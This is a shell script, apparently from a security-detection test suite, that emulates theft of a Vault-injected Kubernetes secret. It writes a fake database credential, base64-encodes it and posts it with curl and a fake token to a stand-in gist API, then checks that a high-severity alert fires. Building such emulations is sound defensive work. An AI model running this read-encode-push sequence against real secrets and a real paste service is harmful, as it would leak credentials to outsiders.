#!/bin/sh
# Emulates scenario vault-injected-secret-gist (examples/scenarios/vault-injected-secret-gist.yaml):
# A secret Vault Agent Injector rendered into the pod, base64'd into a secret gist with curl.
#
# Safe version: no Vault. The Job mounts an emptyDir at /vault/secrets (where the injector renders secrets)
# and this script writes an obviously fake database secret there before reading it; the gist API is the
# in-namespace forge-api stand-in and the token is fake.
#
# Image: curlimages/curl:8.11.1
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

: "${EMU_VAULT_SECRETS:=/vault/secrets}"
emu_need curl base64
emu_check_target "$EMU_FORGE_URL"
[ -w "$EMU_VAULT_SECRETS" ] || emu_die "$EMU_VAULT_SECRETS is not writable: mount an emptyDir there (k8s/job.yaml does)"
work="$EMU_WORKDIR/vault-injected-secret-gist"
rm -rf "$work"
mkdir -p "$work"
printf 'postgresql://orders:FAKE-PASSWORD-EXAMPLE@db.example.invalid:5432/orders\n' >"$EMU_VAULT_SECRETS/database"
content=$(base64 "$EMU_VAULT_SECRETS/database" | tr -d '\n')
printf '{"files":{"d":{"content":"%s"}},"public":false}' "$content" >"$work/g.json"
emu_retry 12 curl -fsS -o /dev/null -X POST -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
  --data-binary "@$work/g.json" "$EMU_FORGE_URL/gists"
rm -rf "$work" "$EMU_VAULT_SECRETS/database"
emu_expect sensitive-read-then-push high
